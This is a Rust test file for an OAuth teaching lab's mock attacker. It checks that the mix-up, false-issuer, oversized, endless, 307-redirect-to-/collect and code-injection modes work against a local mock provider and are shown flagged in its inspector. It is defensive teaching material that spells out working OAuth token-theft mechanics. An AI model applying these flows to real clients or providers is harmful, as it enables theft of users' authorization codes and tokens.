//! Lesson 12's attacker (`src/attacker.rs`): each mode does what the mock
//! provider appendix says, the attacks are real (a client without the lesson's
//! defences loses alice's tokens to it), and the inspector shows them in red
//! with their RFC sections, no secret whole.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use common::*;
use mock_provider::{ATTACKER, Attack, Config, MockProvider, TraceOutput};

fn quiet() -> MockProvider {
    MockProvider::start(Config {
        trace: TraceOutput::Quiet,
        ..Config::default()
    })
    .unwrap()
}

fn metadata_of(base: &str) -> serde_json::Value {
    get(
        &format!("{base}/.well-known/oauth-authorization-server"),
        None,
    )
    .json()
}

/// RFC 9700 §4.4.1: the mix-up attacker names itself in its metadata, sends
/// the browser on to the honest provider with the client's own request, and
/// redeems at the honest provider whatever a naive client sends its token
/// endpoint: here, alice's code and verifier, for alice's tokens.
#[test]
fn rfc9700_4_4_the_mix_up_attacker_gets_alice_s_tokens_from_a_naive_client() {
    let honest = quiet();
    let evil = honest.start_attacker(Attack::MixUp).unwrap();
    let meta = metadata_of(evil.base_url());
    assert_eq!(
        meta["issuer"],
        evil.base_url(),
        "it names itself, as RFC 8414 asks"
    );
    assert_eq!(meta["token_endpoint"], format!("{}/token", evil.base_url()));
    assert_eq!(meta["authorization_response_iss_parameter_supported"], true);
    // The naive client starts at the attacker's authorization endpoint…
    let request = authorize_url(
        evil.base_url(),
        "lab-public",
        &[
            ("code_challenge", CHALLENGE),
            ("code_challenge_method", "S256"),
        ],
    );
    let sent_on = get(&request, None);
    assert_eq!(sent_on.status, 302);
    let location = sent_on.header("location").unwrap().to_string();
    assert!(
        location.starts_with(&format!("{}/authorize?", honest.base_url())),
        "on to the honest provider: {location}"
    );
    assert_eq!(
        url::Url::parse(&location).unwrap().query(),
        url::Url::parse(&request).unwrap().query(),
        "with the client's own request, unchanged"
    );
    // …alice approves at the honest provider, the code comes back with its iss…
    let redirect = honest.resource_owner("alice").approve(&location).unwrap();
    assert_eq!(redirect.param("iss").as_deref(), Some(honest.base_url()));
    let code = redirect.param("code").unwrap();
    // …and the naive client trades it at the token endpoint of the flow it began.
    let answer = post_form(
        &format!("{}/token", evil.base_url()),
        None,
        &[
            ("grant_type", "authorization_code"),
            ("code", &code),
            ("redirect_uri", CALLBACK),
            ("code_verifier", VERIFIER),
            ("client_id", "lab-public"),
        ],
    );
    assert_eq!(
        answer.status, 200,
        "the attacker answers with a token of its own"
    );
    assert!(evil.got_a_code());
    assert_eq!(
        evil.redeemed(),
        ["alice"],
        "the attacker holds alice's tokens"
    );
}

/// RFC 8414 §3.3: the false issuer's metadata claims the honest issuer and
/// authorization endpoint, with the attacker's token endpoint.
#[test]
fn rfc8414_3_3_the_false_issuer_claims_the_honest_issuer() {
    let honest = quiet();
    let evil = honest.start_attacker(Attack::FalseIssuer).unwrap();
    let meta = metadata_of(evil.base_url());
    assert_eq!(meta["issuer"], honest.base_url());
    assert_eq!(
        meta["authorization_endpoint"],
        format!("{}/authorize", honest.base_url())
    );
    assert_eq!(meta["token_endpoint"], format!("{}/token", evil.base_url()));
}

#[test]
fn the_oversized_attacker_answers_a_mebibyte() {
    let honest = quiet();
    let evil = honest.start_attacker(Attack::Oversized).unwrap();
    let answer = agent()
        .post(&format!("{}/token", evil.base_url()))
        .send_form([("grant_type", "authorization_code")])
        .unwrap()
        .body_mut()
        .with_config()
        .limit(2 * mock_provider::OVERSIZED_BYTES as u64)
        .read_to_string()
        .unwrap();
    assert_eq!(answer.len(), mock_provider::OVERSIZED_BYTES);
    assert!(
        serde_json::from_str::<serde_json::Value>(&answer).is_ok(),
        "valid JSON, only big"
    );
}

#[test]
fn the_endless_attacker_never_finishes_its_answer() {
    let honest = quiet();
    let evil = honest.start_attacker(Attack::Endless).unwrap();
    let mut stream = TcpStream::connect(evil.base_url().trim_start_matches("http://")).unwrap();
    write!(
        stream,
        "GET /.well-known/oauth-authorization-server HTTP/1.1\r\nHost: x\r\n\r\n"
    )
    .unwrap();
    stream
        .set_read_timeout(Some(Duration::from_millis(400)))
        .unwrap();
    // Reads for 400 ms: the answer keeps coming, a byte at a time.
    let until = std::time::Instant::now() + Duration::from_millis(400);
    let mut got = Vec::new();
    let mut chunk = [0u8; 1024];
    while std::time::Instant::now() < until {
        match stream.read(&mut chunk) {
            Ok(n) if n > 0 => got.extend_from_slice(&chunk[..n]),
            _ => break,
        }
    }
    let text = String::from_utf8_lossy(&got);
    assert!(text.starts_with("HTTP/1.1 200"), "{text}");
    assert!(
        text.contains("Content-Length: 100000000"),
        "it promises far more than it sends"
    );
    assert!(text.ends_with('a'), "still dripping, not finished: {text}");
}

/// RFC 9700 §4.12: a 307 to the attacker's /collect, which records what a
/// client that follows it sends on.
#[test]
fn rfc9700_4_12_the_redirecting_attacker_collects_what_follows() {
    let honest = quiet();
    let evil = honest.start_attacker(Attack::Redirect).unwrap();
    let answer = post_form(
        &format!("{}/token", evil.base_url()),
        None,
        &[("code", "lab_code_x")],
    );
    assert_eq!(answer.status, 307);
    assert_eq!(
        answer.header("location"),
        Some(format!("{}/collect", evil.base_url()).as_str())
    );
    assert!(!evil.seen().iter().any(|s| s.path == "/collect"));
    post_form(
        &format!("{}/collect", evil.base_url()),
        None,
        &[("code", "lab_code_x")],
    );
    assert!(
        evil.seen()
            .iter()
            .any(|s| s.path == "/collect" && s.param("code") == Some("lab_code_x"))
    );
}

/// RFC 9700 §4.5: the thief's own code, delivered to a listener with the
/// honest iss; the inspector shows every attack in red, with its RFC section,
/// and no code whole.
#[test]
fn rfc9700_4_5_the_thief_s_steps_show_in_red_with_no_secret_whole() {
    let honest = quiet();
    let thief = honest.start_attacker(Attack::MixUp).unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let redirect_uri = format!(
        "http://127.0.0.1:{}/callback",
        listener.local_addr().unwrap().port()
    );
    let code = thief
        .obtain_code(&honest.resource_owner("bob"), "lab-public", &redirect_uri)
        .unwrap();
    assert!(code.starts_with("lab_code_"));
    let victim = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut request = [0u8; 4096];
        let n = stream.read(&mut request).unwrap();
        stream
            .write_all(
                b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            )
            .unwrap();
        String::from_utf8_lossy(&request[..n]).into_owned()
    });
    assert_eq!(thief.deliver_code(&redirect_uri, &code, None), Some(400));
    let request = victim.join().unwrap();
    assert!(
        request.starts_with(&format!("GET /callback?code={code}&iss=")),
        "{request}"
    );
    let events: Vec<_> = honest
        .events()
        .into_iter()
        .filter(|e| e.actor == ATTACKER)
        .collect();
    assert_eq!(events.len(), 2, "{events:?}");
    for e in &events {
        assert!(e.outcome.contains("RFC 9700 §4.5"), "{}", e.outcome);
    }
    let page = get(&format!("{}/_lab", honest.base_url()), None).body;
    let card = &page[page.find("id=\"attacks\"").expect("an Attacks card")..];
    let card = &card[..card.find("</article>").unwrap()];
    assert_eq!(
        card.matches("class=\"step bad\"").count(),
        2,
        "each attack in red"
    );
    assert!(card.contains("RFC 9700 §4.5"));
    let events_json = get(&format!("{}/_lab/events", honest.base_url()), None).body;
    assert!(
        !page.contains(&code) && !events_json.contains(&code),
        "the code is shown shortened"
    );
}
